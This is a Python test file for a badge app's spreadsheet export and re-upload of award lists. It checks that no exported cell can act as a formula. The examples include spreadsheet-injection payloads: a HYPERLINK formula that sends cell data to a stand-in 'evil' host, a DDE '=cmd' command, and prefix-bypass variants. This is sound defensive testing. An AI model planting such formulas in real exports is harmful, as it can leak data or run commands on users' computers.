"""Lists for spreadsheets: nothing in them calculates, and what is corrected can be uploaded again."""

import csv
import io
import unicodedata
from datetime import date

import pytest
from django.utils.translation import override
from hypothesis import example, given
from hypothesis import strategies as st

from accounts.exports.spreadsheets import as_csv
from accounts.tests.factories import UserFactory
from badges.tests.factories import BadgeClassFactory
from claims import actions, exports, imports
from claims.imports import problems
from claims.models import AwardBatch


def cells_of(lines):
    text = "".join(lines)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.threat("B-01")
@given(st.text(max_size=30))
@example('=HYPERLINK("http://evil/"&A1)')
@example("+1")
@example("-1")
@example("@SUM(A1)")
@example("\t=1")
@example("\r=1")
@example(" =1")
@example("＝1")
@example("=cmd|'/C calc'!A0")
@example('"=1')
@example("\"'=1")
@example('\n"\n=1')
@example("\tabc")
@example("\nabc")
def test_no_cell_becomes_a_formula(text):
    [[cell]] = cells_of(as_csv([[text]]))

    assert cell in (text, f"'{text}")
    if cell == text:
        assert not cell.startswith(("\t", "\r", "\n"))
        shown = unicodedata.normalize("NFKC", cell).lstrip().lstrip("\"'").lstrip()
        assert not shown.startswith(("=", "+", "-", "@"))


@pytest.mark.threat("B-01")
def test_every_cell_is_quoted():
    lines = list(as_csv([["a;b", 'c"d', None, 7]]))

    assert lines == ["\ufeff", '"a;b";"c""d";"";"7"\r\n']


@pytest.mark.django_db
def test_only_what_is_wrong_can_be_corrected_and_uploaded_again():
    content = (
        b"E-mail;Nome;Cognome;Data;Lingua;Matricola\n"
        b"anna.example.org;Anna;Bianchi;31/02/2026;it;0012\n"
        b"=evil@x.it;=1+1;Rossi;;;\n"
        b"carlo@example.org;Carlo;Verdi;01/10/2026;;\n"
        b"CARLO@example.org;Carlo;Verdi;13/10/2026;;\n"
    )
    batch = actions.start(
        badge_class=BadgeClassFactory(),
        source=AwardBatch.Source.FILE,
        content=content,
        awarded_on=date(2026, 11, 2),
        by=UserFactory(),
    )

    everything = cells_of(as_csv(exports.result(batch, problems.sentence)))
    only_wrong = "".join(
        as_csv(exports.result(batch, problems.sentence, only_problems=True))
    ).encode()

    assert [row[8:10] for row in everything] == [
        ["Line", "Result"],
        ["2", "To correct"],
        ["3", "To correct"],
        ["4", "New"],
        ["5", "Twice in this list"],
    ]
    assert everything[1][:6] == [
        "anna.example.org",
        "Anna",
        "Bianchi",
        "31/02/2026",
        "it",
        "0012",
    ]
    assert everything[2][:2] == ["'=evil@x.it", "'=1+1"]
    assert everything[1][10] == (
        "This mail address has no @. Write the whole address, such as name@example.org. "
        "There is no such day. Write it as 30/11/2026 or 2026-11-30."
    )
    assert everything[4][10] == (
        "The same address stands in line 4 already: it is awarded once."
    )
    reading, is_certain = imports.guess(only_wrong)
    assert is_certain
    assert set(reading.columns) == {
        "address",
        "first_name",
        "last_name",
        "awarded_on",
        "language",
        "reference",
        "narrative",
        "evidence_url",
    }
    again = list(imports.read_rows(only_wrong, reading, today=date(2026, 11, 22)))
    assert [row.reference for row in again] == ["0012", ""]


@pytest.mark.parametrize("language", ["en", "it"])
def test_the_empty_list_has_the_headings_that_are_known(language):
    with override(language):
        content = "".join(as_csv(exports.template())).encode()

    assert len(imports.guess_columns(content, "utf-8", ";")[0].columns) == 8
